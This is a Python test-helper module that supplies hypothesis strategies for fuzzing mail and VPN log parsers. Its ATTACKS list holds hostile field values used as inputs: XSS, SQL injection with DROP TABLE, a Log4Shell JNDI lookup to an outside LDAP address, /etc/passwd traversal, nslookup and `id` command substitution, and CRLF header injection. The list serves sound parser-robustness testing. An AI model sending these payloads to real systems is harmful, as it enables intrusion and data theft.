"""Shared strategies and checks for the parsers' property tests (hypothesis).

Not a test module: tests/test_parsing_mail_properties.py and test_parsing_vpn_properties.py use
it. A template is a valid line with `{}` where a field's value goes; hypothesis fills it with
arbitrary text (no line terminators: a line never holds one) or an attack string.
"""
from __future__ import annotations

import datetime as dt

from hypothesis import strategies as st

from pipelines.parsing.base import LineBatch, LogFormat, ParseContext, ParseResult

import parser_cases

CTX = ParseContext(timezone="Europe/Paris", reference_time=dt.datetime(2026, 12, 1, tzinfo=dt.timezone.utc))
# What attackers put in fields (and bytes that were not UTF-8, as the reader escapes them: \xNN).
ATTACKS = ["<script>alert(1)</script>", "' OR '1'='1'--", "${jndi:ldap://45.137.21.9:1389/a}",
           "../../../../etc/passwd", "$(nslookup x.example.net)", "`id`", "%0d%0aSet-Cookie:x=1",
           "\\xc3\\x28\\xff\\xfe", "\"; DROP TABLE users; --", "a\tb\x00c", "é\u202eexe.pdf", "=?utf-8?B?PHNjcmlwdD4=?="]
TEXT = st.text(alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\n\r"), max_size=60)
VALUES = st.one_of(TEXT, st.sampled_from(ATTACKS))


def batch_of(lines: list[str]) -> LineBatch:
    """Lines of one file as a LineBatch (offsets: the byte position of each line)."""
    return parser_cases.batch_of(lines, "prop.log")


def parse_checked(fmt: LogFormat, lines: list[str]) -> ParseResult:
    """Parse, and check that every line is accounted for exactly once."""
    return parser_cases.parse_checked(fmt, lines, CTX, "prop.log")


def originals(result: ParseResult) -> list[str]:
    """event.original of every event and fragment."""
    out = result.events.column("event.original").to_pylist()
    if result.fragments is not None:
        out += result.fragments.column("event.original").to_pylist()
    return out


def check_field(fmt: LogFormat, template: str, value: str) -> None:
    """`value` in the template's field: the line is an event whose event.original is the line."""
    line = template.format(value)
    result = parse_checked(fmt, [line])
    assert result.dead_letters.num_rows == 0, (line, result.dead_letters.column("reason").to_pylist())
    assert originals(result) == [line]


def check_batch(fmt: LogFormat, templates: list[str], picks: list[tuple[int, str]], extra: list[str]) -> None:
    """A batch of valid lines (template, value), garbage and blank lines: nothing raises, no line
    is lost, and every valid line reaches event.original."""
    valid = [templates[i % len(templates)].format(v) for i, v in picks]
    lines = valid + extra
    order = sorted(range(len(lines)), key=lambda i: (i * 7919) % (len(lines) or 1))
    lines = [lines[i] for i in order]
    result = parse_checked(fmt, lines)
    seen = originals(result)
    for line in valid:
        assert line in seen
